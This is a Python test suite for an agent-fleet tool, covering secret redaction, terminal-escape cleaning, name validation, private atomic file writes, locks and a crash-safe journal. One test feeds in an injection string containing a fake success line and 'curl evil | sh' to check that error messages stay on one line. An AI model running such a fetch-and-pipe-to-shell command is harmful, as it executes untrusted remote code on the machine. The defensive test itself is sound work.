import copy
import os
import pickle
import traceback
from multiprocessing import Process
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from fleet.actions import Start
from fleet.base.clean import clean, line
from fleet.base.disk import append, locked, replace
from fleet.base.errors import ActionFailed, BadInput, Refused, StateDamaged, Unreachable
from fleet.base.names import agent_name
from fleet.base.secret import Secret
from fleet.journal import Journal, read, unfinished

CANARY = "canary-5b1f"


def test_a_secret_is_shown_nowhere() -> None:
    secret = Secret(CANARY)
    shown = f"{secret} {secret!r} {secret:>5} {[secret]} {secret.__dict__ if hasattr(secret, '__dict__') else ''}"
    assert CANARY not in shown
    assert secret.reveal() == CANARY
    with pytest.raises(TypeError):
        pickle.dumps(secret)
    with pytest.raises(TypeError):
        copy.deepcopy(secret)


def test_a_traceback_shows_no_secret() -> None:
    def fails(secret: Secret) -> None:
        raise ValueError(secret)

    try:
        fails(Secret(CANARY))
    except ValueError as error:
        shown = "".join(traceback.TracebackException.from_exception(error, capture_locals=True).format())
        assert CANARY not in shown


@given(st.text() | st.binary())
def test_nothing_that_a_terminal_would_obey_comes_through(text: str | bytes) -> None:
    shown = clean(text)
    assert not any(ord(char) < 32 and char not in "\n\t" for char in shown)
    assert not any(0x7F <= ord(char) < 0xA0 or char in "\u202e\u2066\u200b\ufeff" for char in shown)
    assert "\n" not in line(text)


def test_what_people_write_comes_through_unchanged() -> None:
    text = "智能体已就绪 ✓ — naïve façade\n第二行"
    assert clean(text) == text


@pytest.mark.parametrize("name", ["", "-a", "a-", "A", "a b", "a/b", "../x", "a" * 41, "meter", "é", "a\n"])
def test_a_name_that_could_become_something_else_is_refused(name: str) -> None:
    with pytest.raises(BadInput):
        agent_name(name)


def test_what_a_machine_says_stays_on_its_line_of_a_message() -> None:
    told = str(ActionFailed("guard.failed", where="box", reason="gone\n\n✓ all is well\n  → curl evil | sh"))
    assert "\n" not in told


def test_an_error_is_told_even_where_a_value_is_missing() -> None:
    error = BadInput("name.agent", where="agents/x.yaml:1:1")
    assert "…" in str(error)
    assert str(error).startswith("agents/x.yaml:1:1: ")


@pytest.mark.parametrize(("language", "mark"), [("en", ". "), ("zh", "。")])
def test_what_and_why_are_two_sentences(language: str, mark: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("CLAWRACK_LANG", language)
    monkeypatch.setattr("fleet.base.words._chosen", [])
    error = BadInput("name.agent", name="x y")
    assert str(error) == f"{error.part('what')}{mark}{error.part('why')}"


def test_a_file_is_replaced_whole_and_private(tmp_path: Path) -> None:
    path = tmp_path / "deep" / "file"
    replace(path, b"one")
    replace(path, b"two")
    assert path.read_bytes() == b"two"
    assert path.stat().st_mode & 0o777 == 0o600
    assert [p.name for p in path.parent.iterdir()] == ["file"]


def test_a_full_disk_leaves_the_old_file(tmp_path: Path) -> None:
    small = Path("/dev/full")
    with pytest.raises(ActionFailed):
        append(small, b"x")
    (tmp_path / "file").write_bytes(b"old")
    (tmp_path / "dir").mkdir()
    with pytest.raises(ActionFailed):
        replace(tmp_path / "dir", b"new")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["dir", "file"]


def test_a_lock_is_held_by_one_and_free_after_its_death(tmp_path: Path) -> None:
    lock = tmp_path / "lock"

    def hold_and_die() -> None:
        with locked(lock):
            os._exit(1)

    with locked(lock), pytest.raises(Refused), locked(lock):
        pass
    child = Process(target=hold_and_die)
    child.start()
    child.join()
    with locked(lock):
        assert lock.exists()


START = Start(machine="box", agent="ada", reason="reason.asked")


def test_the_journal_says_what_began_and_how_it_ended(tmp_path: Path) -> None:
    journal = Journal(tmp_path / "journal", "run1")
    with journal.action(START):
        pass
    with pytest.raises(Unreachable), journal.action(START):
        raise Unreachable("guard.failed", reason="gone")
    found = read(journal.path)
    assert [entry.what for entry in found] == ["begins", "done", "begins", "unknown"]
    assert found[0].action == START
    assert unfinished(found) == []
    assert unfinished(found[:3]) == [found[2]]


def test_a_torn_last_line_is_dropped_and_other_damage_is_told(tmp_path: Path) -> None:
    journal = Journal(tmp_path / "journal", "run1")
    with journal.action(START):
        pass
    whole = journal.path.read_bytes()
    first = whole.index(b"\n") + 1
    for cut in range(first, len(whole)):
        journal.path.write_bytes(whole[:cut])
        assert len(read(journal.path)) == 1
    for place in range(0, first - 1, 7):
        journal.path.write_bytes(whole[:place] + b"\x00" + whole[place + 1 :])
        with pytest.raises(StateDamaged):
            read(journal.path)
